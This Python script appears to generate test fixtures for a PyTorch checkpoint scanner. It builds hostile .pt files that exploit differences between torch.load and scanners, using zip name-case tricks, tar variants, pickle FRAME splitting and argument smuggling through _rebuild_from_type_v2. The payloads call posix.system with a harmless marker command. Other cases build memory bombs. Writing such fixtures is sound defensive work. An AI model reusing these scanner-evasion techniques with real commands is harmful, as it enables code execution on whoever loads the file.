"""Checkpoints made to exploit how torch.load reads a file where a scanner reads it otherwise.

Usage: /usr/bin/python3 testdata/gen/gen_hostile_torchload.py OUTDIR   (torch 1.13 on the host)
Writes OUTDIR/<case>.pt and OUTDIR/cases.json ({case: {"technique", "rule", "marker"[, "severity"]}}):
the rule optstate must report (an error unless "severity" says "info"), and how the by-hand
check (check_hostile_markers.py, in the torch 2.6 chroot) sees the payload act under real torch: "file" (posix.system touches /tmp/optstate-marker-<case>),
"stdout" (a module that prints when imported), "alloc" (weights_only=True allocates what the
pickle names), "jit" (torch.load hands the file to torch.jit.load), "nested" (pickle.loads of the
bytes value, as code that unpickles one does) or "none" (real torch does not run it: kept as an
error for what it could make another reader do). Nothing here is loaded:
pickling records names, and every payload is spliced in as opcodes.
"""
import io
import os
import pickle
import struct
import sys
import tarfile
import zipfile

import torch

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from fixture_io import write_json  # noqa: E402
from tar_format import tar_member, tar_then_legacy  # noqa: E402
from hostile_ops import (op_global, op_str, put, splice, state_with, torch_save_bytes,  # noqa: E402
                         zip_with_data_pkl)


def run(case):
    return f"touch /tmp/optstate-marker-{case}"


def system_call(case, protocol=2):
    """A pickle of posix.system(run(case)), as opcodes (pickling os.system itself is the same)."""
    return (pickle.PROTO + bytes([protocol]) + op_global("posix", "system") + op_str(run(case)) + pickle.TUPLE1 +
            pickle.REDUCE + pickle.STOP)


def zip_with_extra(case, name, first):
    """A benign torch.save zip plus a payload record whose name differs from data.pkl's only in case."""
    src = zipfile.ZipFile(io.BytesIO(torch_save_bytes(state_with(0))))
    prefix = src.infolist()[0].filename.split("/")[0]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        if first:
            put(dst, f"{prefix}/{name}", system_call(case))
        for info in src.infolist():
            put(dst, info.filename, src.read(info))
        if not first:
            put(dst, f"{prefix}/{name}", system_call(case))
    return out.getvalue()


def zip_renamed(case, name):
    """A torch.save zip whose data.pkl is the payload under another case of its name."""
    src = zipfile.ZipFile(io.BytesIO(torch_save_bytes(state_with(0))))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            if info.filename.endswith("/data.pkl"):
                put(dst, info.filename[:-len("data.pkl")] + name, system_call(case))
            else:
                put(dst, info.filename, src.read(info))
    return out.getvalue()


def old_members(case):
    """The three members torch's pre-0.4 reader extracts; 'storages' is read first and calls."""
    return {"storages": system_call(case), "tensors": pickle.dumps(0, protocol=2),
            "pickle": pickle.dumps({"state": {}, "param_groups": []}, protocol=2)}


def tar_v7(case):
    m = old_members(case)
    return b"".join(tar_member(n.encode(), d, ustar=False) for n, d in m.items()) + b"\0" * 1024


def tar_gnu_longname(case):
    """'storages' named only by a GNU long-name record; its own header names something else."""
    m = old_members(case)
    out = tar_member(b"././@LongLink", b"storages\0", typeflag=b"L") + tar_member(b"not-storages", m["storages"])
    out += b"".join(tar_member(n.encode(), m[n]) for n in ("tensors", "pickle"))
    return out + b"\0" * 1024


def tar_last_wins(case):
    """Two 'storages' members: tarfile's getmember takes the last, the payload."""
    m = old_members(case)
    out = tar_member(b"storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2))
    out += tar_member(b"tensors", m["tensors"]) + tar_member(b"pickle", m["pickle"])
    out += tar_member(b"storages", m["storages"])
    return out + b"\0" * 1024


def legacy_tar_polyglot(case):
    """A benign legacy checkpoint whose first bytes are also a valid tar whose 'storages' calls
    (tar_format.tar_then_legacy)."""
    buf = io.BytesIO()
    torch.save(state_with(0), buf, _use_new_zipfile_serialization=False)
    return tar_then_legacy(list(old_members(case).items()), buf.getvalue())


def rebuild_list_args(case):
    """_rebuild_from_type_v2(func, new_type, args, state) calls func(*args): args a list."""
    return splice(op_global("torch._tensor", "_rebuild_from_type_v2") + pickle.MARK +
                  op_global("posix", "system") + op_global("torch", "Tensor") +
                  pickle.EMPTY_LIST + op_str(run(case)) + pickle.APPEND + pickle.EMPTY_DICT +
                  pickle.TUPLE + pickle.REDUCE)


def list_args_reconstructor(case):
    """_rebuild_from_type_v2(copyreg._reconstructor, Tensor, [cls, base, state], {}): the list's items
    are _reconstructor's arguments, and it runs base.__init__(obj, state) - logging.FileHandler's
    opens (creates) the file named by state. No name here is on any dangerous list."""
    return splice(op_global("torch._tensor", "_rebuild_from_type_v2") + pickle.MARK +
                  op_global("copyreg", "_reconstructor") + op_global("torch", "Tensor") + pickle.MARK +
                  op_global("logging", "FileHandler") + op_global("logging", "FileHandler") +
                  op_str(f"/tmp/optstate-marker-{case}") + pickle.LIST + pickle.EMPTY_DICT + pickle.TUPLE +
                  pickle.REDUCE)


def import_only(module, name):
    """A global only named (never called): resolving it imports the module."""
    return splice(op_global(module, name))


def nested_trailing_byte(case):
    """A pickled call in a bytes value, one byte after its STOP (pickle.loads ignores it)."""
    return torch_save_bytes(state_with(system_call(case, protocol=4) + b"\x00"))


def bytearray_alloc(size):
    """builtins.bytearray is on torch 2.6's weights_only allowlist: the size is allocated."""
    return splice(op_global("builtins", "bytearray") + pickle.BININT + struct.pack("<i", size) + pickle.TUPLE1 +
                  pickle.REDUCE)


def torchscript_archive():
    """A torch.save zip with constants.pkl and code/ beside data.pkl: torch.load (weights_only=False)
    hands it to torch.jit.load, which reads TorchScript, not data.pkl."""
    src = zipfile.ZipFile(io.BytesIO(torch_save_bytes(state_with(0))))
    prefix = src.infolist()[0].filename.split("/")[0]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            put(dst, info.filename, src.read(info))
        put(dst, f"{prefix}/constants.pkl", pickle.dumps((), protocol=2))
        put(dst, f"{prefix}/code/__torch__.py", b"class Payload(Module):\n  __parameters__ = []\n")
    return out.getvalue()


def call_op(case):
    """posix.system(run(case)) as opcodes that leave its result on the stack."""
    return op_global("posix", "system") + op_str(run(case)) + pickle.TUPLE1 + pickle.REDUCE


def frame_split(case):
    """Protocol 4, a FRAME ending two bytes into a string. Read as one buffer (pickle.loads, a scanner)
    the payload is the data of a bytes value that is pushed and popped. torch.load reads data.pkl from
    an io.BytesIO, and CPython's C unpickler then drops what is left of the frame when a read crosses
    its end and reads on after it: the string is taken from two bytes later, and the payload runs."""
    def make(pkl):
        assert pkl[:2] == pickle.PROTO + b"\x02"
        payload = call_op(case)
        assert len(payload) < 128  # so that its length byte is UTF-8 in torch's string
        text = b"benign-text"
        head = pickle.BINUNICODE + struct.pack("<I", len(text))
        return (pickle.PROTO + b"\x04" + pickle.FRAME + struct.pack("<Q", len(head) + 2) + head + text +
                pickle.SHORT_BINBYTES + bytes([len(payload)]) + payload + pickle.POP + pickle.POP + pkl[2:])
    return zip_with_data_pkl(make)


def proto_twice(pkl):
    """A second PROTO after the first: both unpicklers take it; a scanner that stops there reads nothing."""
    return pkl[:2] + pkl[:2] + pkl[2:]


def left_on_stack(case):
    """The payload's result left beneath the real object at STOP (modelscan's unsafe zip does this):
    CPython drops it silently, after calling it."""
    return zip_with_data_pkl(lambda pkl: pkl[:2] + call_op(case) + pkl[2:])


MEMO_BASE = 1 << 20  # far above the memo indices torch.save's pickler uses in the file spliced into


def memo_expansion(levels=30, fan=10):
    """fan references to the list below, levels deep: fan**levels objects as a tree, in ~1 KiB."""
    put_, get_ = (lambda i: pickle.LONG_BINPUT + struct.pack("<I", MEMO_BASE + i),
                  lambda i: pickle.LONG_BINGET + struct.pack("<I", MEMO_BASE + i))
    ops = pickle.EMPTY_LIST + put_(0) + pickle.POP
    for k in range(1, levels + 1):
        ops += pickle.MARK + get_(k - 1) * fan + pickle.LIST + put_(k) + pickle.POP
    return splice(ops + get_(levels))


def self_reference():
    """A list that contains itself (Python's pickler writes this for l = []; l.append(l))."""
    ref = struct.pack("<I", MEMO_BASE)
    return splice(pickle.EMPTY_LIST + pickle.LONG_BINPUT + ref + pickle.LONG_BINGET + ref + pickle.APPEND)


def deep_nesting(depth):
    """Lists nested `depth` deep: torch's unpickler builds them without recursion."""
    return splice(pickle.EMPTY_LIST * (depth + 1) + pickle.APPEND * depth)


def cases():
    c = {}

    def add(name, technique, rule, marker, data, severity="error"):
        c[name] = {"technique": technique, "rule": rule, "marker": marker, "data": data}
        if severity != "error":
            c[name]["severity"] = severity

    add("zip_case_only_upper", "the payload as DATA.PKL and no data.pkl: torch's zip reader ignores case",
        "dangerous-global", "file", zip_renamed("zip_case_only_upper", "DATA.PKL"))
    # Beside an exact data.pkl, torch 2.6 and 1.13 read that one (in either order): kept as errors,
    # since which of two names that are one name to the reader it takes is the reader's choice.
    add("zip_case_upper_after", "a record DATA.PKL after a benign data.pkl", "zip-duplicate-record", "none",
        zip_with_extra("zip_case_upper_after", "DATA.PKL", False))
    add("zip_case_mixed_before", "a record Data.pkl before a benign data.pkl", "zip-duplicate-record", "none",
        zip_with_extra("zip_case_mixed_before", "Data.pkl", True))
    add("tar_v7", "a pre-0.4 tar with V7 headers (no ustar magic)", "dangerous-global", "file", tar_v7("tar_v7"))
    add("tar_gnu_longname", "'storages' named by a GNU long-name record", "dangerous-global", "file",
        tar_gnu_longname("tar_gnu_longname"))
    add("tar_last_member_wins", "two 'storages' members, the last calls", "dangerous-global", "file",
        tar_last_wins("tar_last_member_wins"))
    add("legacy_tar_polyglot", "a benign legacy checkpoint that is also a tar whose 'storages' calls",
        "dangerous-global", "file", legacy_tar_polyglot("legacy_tar_polyglot"))
    add("rebuild_list_args", "_rebuild_from_type_v2 with its arguments in a list", "dangerous-global", "file",
        rebuild_list_args("rebuild_list_args"))
    add("list_args_reconstructor", "a class whose __init__ acts, passed in _rebuild_from_type_v2's argument "
        "list to copyreg._reconstructor", "unknown-global-called", "file",
        list_args_reconstructor("list_args_reconstructor"))
    add("import_this", "a global of `this`, named only: importing it prints", "import-runs-code", "stdout",
        import_only("this", "s"))
    add("nested_trailing_byte", "a nested pickle with one byte after its STOP", "dangerous-global", "nested",
        nested_trailing_byte("nested_trailing_byte"))
    add("bytearray_2gib", "builtins.bytearray(2**31 - 1) in a 1 KiB file, allowed by weights_only",
        "allocation-claim", "alloc", bytearray_alloc(2**31 - 1))
    # Benign: harmless builtins called are a warning (weights_only refuses them), never an error.
    add("benign_builtins_calls", "builtins.dict() and builtins.len([]) called", None, "none",
        splice(pickle.MARK + op_global("builtins", "dict") + pickle.EMPTY_TUPLE + pickle.REDUCE +
               op_global("builtins", "len") + pickle.EMPTY_LIST + pickle.TUPLE1 + pickle.REDUCE + pickle.LIST))
    add("torchscript_archive", "constants.pkl and code/ beside data.pkl", "torchscript-archive", "jit",
        torchscript_archive())
    # Pickles no pickler writes (fickling's structural vectors), each kept beside a real checkpoint.
    add("frame_split_opcode", "a FRAME ending inside a string: torch.load runs what a whole-buffer reader sees as "
        "bytes data", "dangerous-global",
        "file", frame_split("frame_split_opcode"))
    add("proto_twice", "a second PROTO opcode (nothing else wrong)", "pickle-tampered", "none",
        zip_with_data_pkl(proto_twice))
    add("left_on_stack", "the payload's result left beneath the state dict at STOP", "pickle-tampered", "file",
        left_on_stack("left_on_stack"))
    add("memo_expansion", "30 levels of 10 memo references each: 10**30 objects as a tree", "pickle-expansion",
        "none", memo_expansion())
    add("self_reference", "a list that contains itself (a note: torch.load reads it, nothing runs)",
        "pickle-cycle", "none", self_reference(), severity="info")
    add("deep_nesting", "lists nested 5000 deep, past the built-in max_depth of 1000", "resource-limit", "none",
        deep_nesting(5000))
    return c


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    index = {}
    for name, case in sorted(cases().items()):
        with open(os.path.join(out, name + ".pt"), "wb") as f:
            f.write(case.pop("data"))
        index[name] = case
    write_json(os.path.join(out, "cases.json"), index, sort_keys=True)
    print(f"{len(index)} cases in {out}")


if __name__ == "__main__":
    main()
